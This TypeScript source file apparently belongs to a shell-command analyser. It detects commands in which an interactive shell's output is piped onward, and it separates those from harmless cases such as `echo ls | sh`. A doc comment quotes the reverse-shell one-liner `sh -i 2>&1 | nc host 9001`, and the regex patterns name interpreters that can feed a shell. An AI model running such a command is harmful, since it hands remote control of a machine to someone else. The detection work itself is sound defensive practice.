import type { Command, StandardInput } from '../../shell/command.js';
import { pipedInto, textOf } from '../../shell/command.js';
import { programName } from '../command/program-name.js';

/** `sh -i 2>&1 | nc host 9001`: what goes down the pipe is what a shell prints that is told what to do by somebody else. */
export function isFedByShell(command: Command): boolean {
  return pipedInto(command).some(
    ({ words: [program, ...args], input }) =>
      /^(?:ba|da|fi|k|z)?sh$/.test(programName(textOf(program))) && !isSaid(input) && args.every((arg) => WAITS.test(textOf(arg))),
  );
}

/** By what a shell is told to go on with what somebody else says. */
const LISTENS = /<|\b(?:\w{0,9}sh|eval|source|read|python[\d.]{0,9}|perl|ruby|node|php)\b/;

/** True for an input that stands in the source: `echo ls | sh` waits for nobody. */
function isSaid(input: StandardInput): boolean {
  if (input.kind === 'pipe') {
    return (
      input.from.length > 0 &&
      input.from.every(
        ({ words: [program, ...args] }) =>
          /^(?:echo|printf)$/.test(textOf(program)) &&
          args.every(({ values }) =>
            values.every(({ text, certainty, origins }) => certainty !== 'unknown' && origins === undefined && !LISTENS.test(text)),
          ),
      )
    );
  }
  return input.kind === 'text';
}

/** An option with which a shell still reads its commands from its input. */
const WAITS = /^(?:-[abd-zA-Z]+|--(?:login|noprofile|norc|posix|rcfile))$/;
